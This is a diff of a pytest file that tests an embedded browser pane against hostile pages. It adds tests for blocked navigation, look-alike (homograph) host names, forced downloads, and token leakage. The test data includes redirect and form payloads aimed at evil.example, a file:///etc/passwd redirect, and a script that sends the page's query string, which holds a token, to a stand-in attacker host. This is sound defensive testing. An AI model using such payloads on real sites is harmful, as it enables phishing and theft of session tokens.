@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import pytest
 
-from tests.support.preview_kit import ENGINE_NOISE
+from tests.support.hostile_kit import EVERYWHERE, PATH
+from tests.support.page_server import Answer
+from tests.support.preview_kit import ENGINE_NOISE, TOKEN, press, says, visible_texts
 
 pytestmark = pytest.mark.qt_log_ignore(*ENGINE_NOISE)
 
@@ -34,17 +36,6 @@ REFUSED = {
 }
 
 
-@pytest.fixture
-def after_it(hostile):
-    """Wait until the engine has dealt with what the page has just done."""
-
-    def waited():
-        hostile.run("fetch('/told', {method: 'POST', body: '[\"over\", 1]'}) && 1")
-        hostile.told("over")
-
-    return waited
-
-
 @pytest.mark.parametrize("address", REFUSED)
 @pytest.mark.parametrize("how", ["location", "link", "frame", "refresh"])
 def test_the_page_does_not_get_to(hostile, address, how):
@@ -61,3 +52,187 @@ def test_the_page_does_not_get_to(hostile, address, how):
     hostile.told("tried")
     hostile.noticed(f"tried to open {REFUSED[address]}.")
     assert hostile.is_still_the_portal()
+
+
+def test_a_script_address_runs_nowhere_else(hostile):
+    hostile.open(
+        "onClick(() => { location.href = `javascript:tell('ran on', location.pathname)` })"
+    )
+    hostile.click()
+    assert hostile.told("ran on") == PATH
+
+
+@pytest.mark.parametrize(
+    "make",
+    [
+        "'data:text/html,<h1>Fake</h1>'",
+        "URL.createObjectURL(new Blob(['<h1>Fake</h1>'], {type: 'text/html'}))",
+    ],
+    ids=["data", "blob"],
+)
+def test_the_page_does_not_become_one_of_its_own_making(hostile, make):
+    hostile.open(f"onClick(() => {{ location.href = {make}; tell('tried', true) }})")
+    hostile.click()
+    hostile.told("tried")
+    hostile.run("1")
+    assert hostile.is_still_the_portal()
+
+
+def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
+    leave = "location.href = 'https://evil.example/?t=1'"
+    hostile.open(f"addEventListener('click', () => {{ {leave} }}); setTimeout(() => {{ {leave} }})")
+    asks("wants to go to evil.example.")
+    press(hostile.pane, "Stay")
+    hostile.run(f"({leave}, 1)")
+    hostile.run("1")
+    assert not says(hostile.pane, "wants to go to")
+    hostile.click()
+    asks("wants to go to evil.example.")
+    press(hostile.pane, "Stay")
+    assert hostile.is_still_the_portal()
+
+
+def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
+    hostile.open("setTimeout(() => { location.href = 'https://harmless.example/' })")
+    asks("harmless.example")
+    hostile.run("(location.href = 'https://evil.example/', 1)")
+    hostile.run("1")
+    press(hostile.pane, "Open in system browser")
+    assert [link.reveal() for link in hostile.heard.external] == ["https://harmless.example/"]
+
+
+@pytest.mark.parametrize(
+    ("script", "body"),
+    [
+        ("onClick(() => document.forms[0].submit())", "<form action='{to}'><input name=a></form>"),
+        (
+            "onClick(() => document.forms[0].submit())",
+            "<form method=post action='{to}'><input name=a></form>",
+        ),
+        ("", "<a {everywhere} href='{to}'>Sign in</a>"),
+        ("onClick(() => location.replace('{to}'))", ""),
+        ("onClick(() => navigation.navigate('{to}'))", ""),
+        (
+            (
+                "onClick(() => {{ document.querySelector('iframe').srcdoc ="
+                " `<script>top.location = '{to}'<\\/script>` }})"
+            ),
+            "<iframe></iframe>",
+        ),
+    ],
+    ids=["form", "post", "link", "replace", "navigation", "frame"],
+)
+def test_every_way_to_another_host_asks(hostile, asks, script, body):
+    to = "https://evil.example/in"
+    hostile.open(script.format(to=to), body.format(to=to, everywhere=EVERYWHERE))
+    hostile.click()
+    asks("wants to go to evil.example.")
+    assert hostile.is_still_the_portal()
+
+
+def test_a_sandboxed_frame_of_others_does_not_even_ask(hostile):
+    hostile.open(
+        "",
+        "<iframe sandbox='allow-scripts' srcdoc=\"<script>top.location = 'https://evil.example/'"
+        '</script>"></iframe>',
+    )
+    hostile.run("1")
+    assert not says(hostile.pane, "wants to go to")
+    assert hostile.is_still_the_portal()
+
+
+@pytest.mark.parametrize(
+    ("address", "words"),
+    [
+        (
+            MIXED,
+            "xn--pple-43d.example. It is read “\u2068аpple.example\u2069”, in Cyrillic and Latin",
+        ),
+        ("https://аррӏе.example/", "xn--80ak6aa92e.example"),
+        ("https://xn--4gbrim.example/", "in Arabic and Latin letters."),
+        (
+            f"https://{'a' * 60}.{'b' * 60}.{'c' * 60}.evil.example/",
+            f"to …{'c' * 46}.evil.example.",
+        ),
+        ("https://portal.example@evil.example/", "to evil.example."),
+        ("http://plain.example/", "to plain.example."),
+    ],
+    ids=["mixed", "whole", "right to left", "long", "name before", "not encrypted"],
+)
+def test_the_question_names_the_host_as_it_is(hostile, asks, address, words):
+    hostile.open(f"setTimeout(() => {{ location.href = '{address}' }})")
+    asks(words)
+    assert hostile.is_still_the_portal()
+
+
+def test_the_system_browser_gets_the_place_that_was_asked_about(hostile, asks):
+    hostile.open("", f"<a {EVERYWHERE} href='{MIXED}'>Sign in</a>")
+    hostile.click()
+    asks("Names that mix alphabets often imitate another.")
+    press(hostile.pane, "Open in system browser")
+    assert [link.reveal() for link in hostile.heard.external] == [MIXED]
+
+
+@pytest.mark.parametrize(
+    "to", ["https://evil.example/", "http://192.168.0.1/", "file:///etc/passwd"]
+)
+def test_a_redirect_at_the_start_is_stopped_and_told(hostile, to):
+    hostile.site.pages[PATH] = Answer(status=302, headers={"Location": to})
+    hostile.show(hostile.site.url(PATH))
+    hostile.until(lambda: hostile.heard.failed != [])
+    ((_, kind),) = hostile.heard.failed
+    assert kind in {"blocked", "connection"}
+
+
+def test_a_page_that_leaves_at_once_is_told(hostile):
+    hostile.show(hostile.write("location.href = 'https://evil.example/'"))
+    hostile.until(lambda: hostile.heard.failed == [("portal-1", "blocked")])
+    assert says(hostile.pane, "The link leads somewhere else")
+
+
+def test_a_page_that_blanks_itself_is_not_shown_as_the_portal(hostile):
+    hostile.open("onClick(() => { location.href = 'about:blank' })")
+    hostile.click()
+    hostile.until(lambda: hostile.heard.failed == [("portal-1", "not_a_page")])
+
+
+@pytest.mark.parametrize(
+    "offer",
+    [
+        "Object.assign(document.createElement('a'), {download: 'x', href: 'data:,x'}).click()",
+        (
+            "Object.assign(document.createElement('a'), {download: 'x',"
+            " href: URL.createObjectURL(new Blob(['x']))}).click()"
+        ),
+        "location.href = '/file'",
+        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/file'}))",
+    ],
+    ids=["data", "blob", "page", "frame"],
+)
+def test_nothing_is_downloaded(hostile, offer, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    hostile.site.pages["/file"] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
+    hostile.open(f"onClick(() => {{ for (let i = 0; i < 5; i++) {{ {offer} }} }})")
+    hostile.click()
+    hostile.noticed("offered a file to download")
+    assert hostile.is_still_the_portal()
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_link_that_is_a_file_is_no_page(hostile):
+    hostile.site.pages[PATH] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
+    hostile.show(hostile.site.url(PATH))
+    hostile.until(lambda: hostile.heard.failed == [("portal-1", "not_a_page")])
+
+
+def test_the_questions_words_are_all_that_is_shown_of_the_link(hostile, asks):
+    hostile.open("setTimeout(() => { location.href = 'https://evil.example/' + location.search })")
+    asks("evil.example")
+    assert not any("token" in text for text in visible_texts(hostile.pane))
+
+
+def test_what_the_page_logs_never_reaches_our_log(hostile, caplog, capfd, qtlog):
+    hostile.open("console.error(location.href); console.log(location.search)")
+    hostile.run("(console.warn(location.href), 1)")
+    messages = [record.message for record in qtlog.records]
+    assert TOKEN not in "".join([*messages, caplog.text, *capfd.readouterr()])
